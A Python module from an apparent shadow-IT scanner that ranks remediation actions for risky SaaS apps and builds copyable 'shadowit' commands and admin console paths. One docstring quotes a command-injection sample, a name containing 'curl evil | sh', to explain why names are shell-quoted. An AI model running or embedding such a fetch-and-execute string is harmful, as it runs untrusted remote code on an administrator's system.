"""Top actions: at most ten next steps, one per app, the worst first.

Each app with an open finding gets one action, for its worst open finding (informational
findings are not actions). Actions are ordered by severity x people affected x data reach:

- severity weighs x4 per step (critical 64, high 16, medium 4, low 1), so one step of severity
  outweighs a few dozen more people;
- people affected grows with the logarithm of the app's people (1 + log2(1 + people)); an app
  an administrator consented to for everyone, or one acting without a user, affects everyone:
  it counts as the most-used app of the inventory;
- data reach is the level of the most sensitive permission held (critical 4 .. low 1, none 1).

Each action is one sentence with the exact next step: a copyable ``shadowit`` command
(``accept``, ``sanction``, ``confirm send``; options as in ``scanner/app/cli_policy.py``) or
the admin console path, and the app's key for the link to its details.
"""

from __future__ import annotations

import math
from collections.abc import Mapping, Sequence
from datetime import date, timedelta
from shlex import quote
from typing import Any

from scanner.analysis.owner_advice import owner_advice, sanction_line
from scanner.core.words import label, plural

MAX_ACTIONS = 10
SEVERITY_WEIGHT = {"critical": 64, "high": 16, "medium": 4, "low": 1}
REACH_WEIGHT = {"critical": 4, "high": 3, "medium": 2, "low": 1}
SEVERITY_ORDER = ("critical", "high", "medium", "low")
KIND_ORDER = (
    "banned",
    "lookalike",
    "consent_phishing",
    "admin_consent",
    "leaver_access",
    "over_scoped",
    "risky_scopes",
    "unsanctioned",
    "orphaned_app",
    "unverified_publisher",
    "stale_sanction",
    "no_sso",
    "renewal_due",
)
"""Which of an app's equally severe findings is its action (earlier first; others after)."""
ACCEPT_DAYS = 90
"""``--until`` in an accept line: a quarter from the report's day, to look at it again."""
REVIEW_DAYS = 365
"""``--review-by`` in a re-review line: a year, the usual sanction review period."""
CONFIG = "config.toml"
"""The config file in the commands (the model does not know the path it was read from)."""

# Console paths. Entra: "Review permissions granted to enterprise applications" and "Disable
# user sign-in for an application" (learn.microsoft.com/entra/identity/enterprise-apps/
# manage-application-permissions, .../disable-user-sign-in-portal). Google: "Control which
# third-party & internal apps access Google Workspace data" (support.google.com/a/answer/
# 7281227). Okta: "Deactivate an app integration" (help.okta.com, Applications > Applications).
BLOCK = {
    "entra": "Microsoft Entra admin center > Enterprise applications > All applications > {app}"
    " > Properties > Enabled for users to sign-in: No",
    "google": "Google Admin console > Security > Access and data control > API controls >"
    " Manage Third-Party App Access > {app} > Change access: Blocked",
    "okta": "Okta Admin Console > Applications > Applications > {app} > Deactivate",
}
PERMISSIONS = {
    "entra": "Microsoft Entra admin center > Enterprise applications > All applications > {app}"
    " > Permissions > Review permissions",
    "google": "Google Admin console > Security > Access and data control > API controls >"
    " Manage Third-Party App Access > {app}",
    "okta": "Okta Admin Console > Applications > Applications > {app} > Assignments",
}
BLOCKING = ("banned", "lookalike", "consent_phishing")
PERMISSION_KINDS = ("admin_consent", "risky_scopes", "over_scoped", "dormant", "leaver_access")
DECIDING = ("unsanctioned", "unverified_publisher", "new_app")


def top_actions(
    apps: Sequence[Mapping[str, Any]], findings: Sequence[Mapping[str, Any]], today: date
) -> list[dict[str, Any]]:
    """The model's ``top_actions``: at most ``MAX_ACTIONS``, the highest score first."""
    by_app: dict[str, list[Mapping[str, Any]]] = {}
    for f in findings:
        if f["open"] and f["severity"] in SEVERITY_WEIGHT:
            by_app.setdefault(str(f["app_key"]), []).append(f)
    everyone = max((int(a["people"]) for a in apps), default=0)
    actions = [
        _action(app, _worst(by_app[app["key"]]), len(by_app[app["key"]]), everyone, today)
        for app in apps
        if app["key"] in by_app
    ]
    actions.sort(key=lambda a: (-a["score"], SEVERITY_ORDER.index(a["severity"]), a["app"]))
    return [{"rank": i, **a} for i, a in enumerate(actions[:MAX_ACTIONS], start=1)]


def _worst(findings: Sequence[Mapping[str, Any]]) -> Mapping[str, Any]:
    def order(f: Mapping[str, Any]) -> tuple[int, int, str]:
        kind = str(f["kind"])
        place = KIND_ORDER.index(kind) if kind in KIND_ORDER else len(KIND_ORDER)
        return SEVERITY_ORDER.index(f["severity"]), place, str(f["id"])

    return min(findings, key=order)


def people_affected(app: Mapping[str, Any], everyone: int) -> int:
    """The app's people; everyone's when it holds access for the whole organisation."""
    people = int(app["people"])
    return max(people, everyone) if app.get("admin_consent") or app.get("app_only") else people


def reach(app: Mapping[str, Any]) -> str | None:
    """The level of the most sensitive permission the app holds (None: none held)."""
    levels = {str(s["level"]) for s in app.get("scopes", [])}
    return next((lvl for lvl in SEVERITY_ORDER if lvl in levels), None)


def score(severity: str, people: int, data_reach: str | None) -> float:
    """severity x people affected x data reach (see the module's docstring)."""
    return (
        SEVERITY_WEIGHT[severity]
        * (1 + math.log2(1 + max(people, 0)))
        * REACH_WEIGHT.get(data_reach or "low", 1)
    )


def _action(
    app: Mapping[str, Any],
    finding: Mapping[str, Any],
    open_count: int,
    everyone: int,
    today: date,
) -> dict[str, Any]:
    people = people_affected(app, everyone)
    data_reach = reach(app)
    lead, step, step_kind = next_step(app, finding, today)
    what = label("finding_kind", str(finding["kind"]))
    facts = [str(finding["severity"]), plural(people, "person", "people")]
    if data_reach:
        facts.append(f"{data_reach} access")
    return {
        "app": app["name"],
        "app_key": app["key"],
        "finding_id": finding["id"],
        "kind": finding["kind"],
        "severity": finding["severity"],
        "people": people,
        "reach": data_reach,
        "open_findings": open_count,
        "score": round(score(str(finding["severity"]), people, data_reach), 2),
        "text": f"{app['name']}, {what} ({', '.join(facts)}): {lead}",
        "step": step,
        "step_kind": step_kind,
    }


def next_step(
    app: Mapping[str, Any], finding: Mapping[str, Any], today: date
) -> tuple[str, str, str]:
    """(what to do, the exact step, ``command`` or ``console``) for the app's action."""
    kind, name = str(finding["kind"]), str(app["name"])
    source = next((s for s in app.get("sources", []) if s in BLOCK), None)
    if kind in BLOCKING and source:
        return "block it and revoke its grants in", BLOCK[source].format(app=name), "console"
    if kind in PERMISSION_KINDS and source:
        return "review and revoke what it holds in", PERMISSIONS[source].format(app=name), "console"
    if kind in BLOCKING:
        # No identity provider lists it (an expense line, a usage file): nothing to block in
        # a console, and a banned or phishing app is never offered for sanctioning.
        return (
            "stop paying for it and tell the people who use it; who pays and who uses it is in",
            "inventory.xlsx > the spend and users-by-app sheets",
            "console",
        )
    if kind in DECIDING:
        return _decide(app, finding)
    if kind in ("owner_unconfirmed", "orphaned_app"):
        return _owner_step(app)
    if kind == "stale_sanction":
        until = (today + timedelta(days=REVIEW_DAYS)).isoformat()
        return (
            "re-review it and set the next review date:",
            sanction_line(name, review_by=until, config=CONFIG),
            "command",
        )
    return _accept_step(finding, today)


def _decide(app: Mapping[str, Any], finding: Mapping[str, Any]) -> tuple[str, str, str]:
    name = str(app["name"])
    if finding["severity"] in ("critical", "high"):
        return (
            "ban it unless a team needs it (then sanction it with an owner):",
            sanction_line(name, status="banned", config=CONFIG),
            "command",
        )
    owner = (app.get("ownership") or {}).get("owner") or app.get("likely_owner") or "OWNER"
    return (
        "sanction it with its owner, or ban it with --status banned:",
        sanction_line(name, status="sanctioned", owner=owner, config=CONFIG),
        "command",
    )


def _owner_step(app: Mapping[str, Any]) -> tuple[str, str, str]:
    confirmation = app.get("confirmation") or {}
    state = str(confirmation.get("state") or "unconfirmed")
    send = f"shadowit confirm send --config {CONFIG}"
    if state == "sanction_requested":
        owner = str(confirmation.get("owner") or "OWNER")
        return (
            "its owner asks to sanction it; review it, then:",
            sanction_line(str(app["name"]), status="sanctioned", owner=owner, config=CONFIG),
            "command",
        )
    advice = owner_advice(str(app["name"]), state, confirmation.get("owner"))
    if advice is None:
        return "ask who owns it:", send, "command"
    said = _clause(advice.replace(" (shadowit confirm send)", ""))
    source = next((s for s in app.get("sources", []) if s in PERMISSIONS), None)
    if state in ("disowned", "retire_requested", "no_answer") and source:
        where = PERMISSIONS[source].format(app=app["name"])
        return f"{said}; its access is in", where, "console"
    return f"{said}:", send, "command"


def _clause(sentence: str) -> str:
    """A sentence as the clause after the action's colon: no final stop, no capital."""
    text = sentence.rstrip(".")
    return text[:1].lower() + text[1:]


def _accept_step(finding: Mapping[str, Any], today: date) -> tuple[str, str, str]:
    until = (today + timedelta(days=ACCEPT_DAYS)).isoformat()
    remediation = _clause(str(finding.get("remediation") or "decide what to do"))
    return (
        f"{remediation}; or accept it for now:",
        accept_line(str(finding["id"]), until),
        "command",
    )


def accept_line(finding_id: str, until: str, reason: str = "why it is accepted") -> str:
    """The copyable ``shadowit accept`` line for one finding; app and person names in every
    command are shell-quoted (``shlex.quote``): they come from providers, and a name such as
    ``x"; curl evil | sh; "`` must stay one argument when an admin pastes the line."""
    return (
        f"shadowit accept --config {CONFIG} {quote(finding_id)} --until {until} "
        f"--reason {quote(reason)}"
    )
